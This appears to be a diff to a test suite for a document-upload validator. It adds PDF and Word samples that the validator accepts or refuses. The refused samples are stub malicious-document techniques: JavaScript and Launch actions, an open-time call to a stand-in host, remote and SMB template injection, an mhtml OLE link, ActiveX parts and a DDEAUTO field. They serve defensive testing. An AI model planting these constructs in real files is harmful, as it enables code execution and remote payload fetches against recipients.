@@ -36,6 +36,20 @@ READ: dict[str, Callable[[], bytes]] = {
         word___rels__document_xml_rels=b'<Relationships><Relationship Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
     ),
     "plain text that begins like a formula": lambda: b"=HYPERLINK(1)\n" + files.TEXT.encode(),
+    "a PDF with a link to write to": lambda: files.annotated(
+        b"/Subtype /Link /A << /S /URI /URI (mailto:d@example.org) >>"
+    ),
+    "a PDF that says how it is built": lambda: files.pdf(
+        root="/StructTreeRoot << /K << /S /Document /K [<< /S /P >>] >> >>"
+    ),
+    "a PDF with gaps that no page needs": lambda: files.pdf(root="/Metadata 99 0 R /Outlines 98 0 R"),
+    "a Word document with a link in a field": lambda: files.with_field(
+        " HYPERLINK ", "&quot;https://example.org&quot;"
+    ),
+    "a Word document made from a template": lambda: files.linked(
+        "attachedTemplate", r"file:///C:\Users\dana\Resume.dotx"
+    ),
+    "a Word document with a chart": lambda: files.docx(word__embeddings__Sheet1_xlsx=b"PK"),
     "a Word document with an unused picture": lambda: files.docx(word__media__image1_png=b"\x89PNG" * 50),
 }
 REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
@@ -68,6 +82,35 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
     "a PDF with a page that acts": (
         lambda: files.pdf().replace(b"/Type /Page /Parent", b"/Type /Page /AA << /O << /S /URI >> >> /Parent"), "macro",
     ),
+    "a PDF with a script behind a link": (
+        lambda: files.annotated(b"/Subtype /Link /A << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "macro",
+    ),
+    "a PDF with a program behind a link": (lambda: files.annotated(b"/Subtype /Link /A << /S /Launch /F (x.exe) >>"), "macro"),
+    "a PDF with a script in a field": (
+        lambda: files.pdf(root="/AcroForm << /Fields [<< /AA << /K << /S /JavaScript /JS (x) >> >> >>] >>"), "macro",
+    ),
+    "a PDF with a script as its second step": (
+        lambda: files.pdf(root="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>"), "macro",
+    ),
+    "a PDF that calls home when it is opened": (
+        lambda: files.pdf(root="/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"), "macro",
+    ),
+    "a PDF with a file pinned to its page": (
+        lambda: files.annotated(b"/Subtype /FileAttachment /FS << /F (x.exe) /EF << >> >>"), "macro",
+    ),
+    "a PDF that is a form of another kind": (lambda: files.pdf(root="/AcroForm << /XFA (x) /Fields [] >>"), "macro"),
+    "a Word document with a packed program": (lambda: files.docx(word__embeddings__oleObject1_bin=b"x"), "macro"),
+    "a Word document with a control": (lambda: files.docx(word__activeX__activeX1_bin=b"x"), "macro"),
+    "a Word document with a template elsewhere": (
+        lambda: files.linked("attachedTemplate", "https://192.0.2.1/t.dotm"), "macro",
+    ),
+    "a Word document with a template on a stranger's share": (
+        lambda: files.linked("attachedTemplate", r"file:///\\192.0.2.1\t.dotm"), "macro",
+    ),
+    "a Word document with an object elsewhere": (
+        lambda: files.linked("oleObject", "mhtml:http://192.0.2.1/x.html!x-usc:http://192.0.2.1/x.html"), "macro",
+    ),
+    "a Word document that starts a program": (lambda: files.with_field(" DD", "EAUTO", " c:\\x"), "macro"),
     "a Word document whose parts are locked": (lambda: files.locked_parts(files.docx()), "password"),
     "a Word document without its text": (lambda: files.docx().replace(b"word/document.xml", b"word/document.xmm"), "not a PDF|damaged"),
     "a text with a zero byte": (lambda: files.TEXT.encode() + b"\x00", "not a PDF"),
